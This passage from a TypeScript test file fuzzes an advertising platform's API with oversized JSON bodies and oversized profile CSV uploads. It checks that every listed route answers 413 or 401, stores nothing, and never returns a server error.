        } catch (error) {
          throw new Error(`${describeAttempt(attempt)}\n${(error as Error).message}`, { cause: error });
        }
      }
    });
  }, 120_000);
});

describe(`Bodies over BODY_LIMIT and CSV files over PROFILE_CSV_MAX_BYTES answer 413 and store nothing [${TEST_PROFILE}]`, () => {
  let t: TestApp;
  let keys: Record<string, string>;

  beforeAll(async () => {
    // on the MySQL profile this joins the schema of the suite above instead of dropping it
    t = await startTestApp(
      {
        BODY_LIMIT: String(SMALL_BODY_LIMIT),
        PROFILE_CSV_MAX_BYTES: String(SMALL_CSV_LIMIT),
        RATE_LIMIT_PER_SECOND: '0',
        UNKNOWN_KEY_RATE_LIMIT_PER_SECOND: '0',
      },
      { dropSchema: TEST_PROFILE === 'embedded' },
    );
    keys = {
      advertiser: (await createAccount(t, ['advertiser'], 'Oversize advertiser')).apiKey,
      publisher: (await createAccount(t, ['publisher'], 'Oversize publisher')).apiKey,
      partner: (await createAccount(t, ['partner'], 'Oversize partner')).apiKey,
      admin: ADMIN_KEY,
    };
  });
  afterAll(() => t.close());

  const POSTS: [path: string, role: string][] = [
    [`${OPENAPI}/ad/campaign/create`, 'advertiser'],
    [`${OPENAPI}/ad/campaign/status`, 'advertiser'],
    [`${OPENAPI}/ad/campaign/update`, 'advertiser'],
    [`${OPENAPI}/ad/block/create`, 'publisher'],
    [`${OPENAPI}/ad/block/update`, 'publisher'],
    [`${OPENAPI}/ad/block/rewards/replay`, 'publisher'],
    [`${OPENAPI}/ad/block/rewards/test`, 'publisher'],
    [`${OPENAPI}/ad/event/report`, 'publisher'],
    [`${OPENAPI}/ad/event/report/conversion`, 'advertiser'],
    [`${OPENAPI}/ad/event/report/custom`, 'advertiser'],
    [`${OPENAPI}/user/profile/batch`, 'publisher'],
    [`${OPENAPI}/exchange/event/report`, 'partner'],
    [`${OPENAPI}/exchange/campaign/create`, 'partner'],
    [`${OPENAPI}/exchange/campaign/update`, 'partner'],
    [`${OPENAPI}/exchange/campaign/status`, 'partner'],
    [`${OPENAPI}/account/update`, 'advertiser'],
    [`${OPENAPI}/ad/campaign/forecast`, 'advertiser'],
    [`${OPENAPI}/account/webhook-secret/rotate`, 'advertiser'],
    [`${OPENAPI}/account/postback-token/rotate`, 'advertiser'],
    [`${OPENAPI}/account/keys`, 'advertiser'],
    [`${OPENAPI}/account/keys/revoke`, 'advertiser'],
    [`${ADMIN}/accounts`, 'admin'],
    [`${ADMIN}/accounts/${UNKNOWN_ID}/keys`, 'admin'],
    [`${ADMIN}/keys/${UNKNOWN_ID}/revoke`, 'admin'],
    [`${ADMIN}/profiles/rebuild-store`, 'admin'],
    ['/api/v2/matching/ad/campaign', 'publisher'],
    ['/api/v2/ad/report/event', 'publisher'],
    ['/api/v2/exchange/report/event/new', 'partner'],
    ['/api/v2/sdk/user/profile', 'publisher'],
    ['/api/v2/common/event/report', 'publisher'],
  ];

  it('should answer every JSON body over the limit with 413 for a valid key, and 401 without a key (checked before the body is read)', async () => {
    const oversized = fc
      .record({
        route: fc.constantFrom(...POSTS),
        extra: fc.integer({ min: 1, max: 50_000 }),
        withKey: fc.boolean(),
        shape: fc.constantFrom('object', 'array', 'malformed'),
      })
      .map(({ route: [path, role], extra, withKey, shape }) => {
        const filler = 'z'.repeat(SMALL_BODY_LIMIT + extra);
        const body = shape === 'object' ? JSON.stringify({ name: filler }) : shape === 'array' ? JSON.stringify([filler]) : `{"name":"${filler}`;
        return withShortDescription({
          method: 'POST',
          path,
          key: withKey ? keys[role] : null,
          body,
          contentType: 'application/json',
          expect: withKey ? [413] : [401],
        });
      });
    await expectNothingStored(t, () =>
      fc.assert(
        fc.asyncProperty(oversized, (attempt) => tryAttempt(t, null, attempt)),
        FUZZ_OPTIONS,
      ),
    );
  }, 60_000);

  it('should answer a profile CSV file over PROFILE_CSV_MAX_BYTES with 413', async () => {
    const csvFiles = fc.integer({ min: 1, max: 20_000 }).map((extra) => {
      let body = 'messengerUserId,walletAddress,walletClassify\n';
      for (let i = 0; body.length <= SMALL_CSV_LIMIT + extra; i++) body += `big-user-${i},EQD4FPq,evm\n`;
      return withShortDescription({
        method: 'POST',
        path: `${OPENAPI}/user/profile/batch/csv`,
        key: keys.publisher,
        body,
        contentType: 'text/csv',
        expect: [413],
      });
    });
    await expectNothingStored(t, () =>
      fc.assert(
        fc.asyncProperty(csvFiles, (attempt) => tryAttempt(t, null, attempt)),
        { ...FUZZ_OPTIONS, numRuns: Math.min(RUNS, 10) },
      ),
    );
  }, 60_000);
});

describe('bad-input totals', () => {
  it('should have seen no 5xx answer and no changed row', () => {
    expect(tally.requests).toBeGreaterThan(ROUTE_NAMES.length * RUNS);
    expect({ serverErrors: tally.serverErrors, rowsChanged: tally.rowsChanged }).toEqual({ serverErrors: 0, rowsChanged: 0 });
  });
});
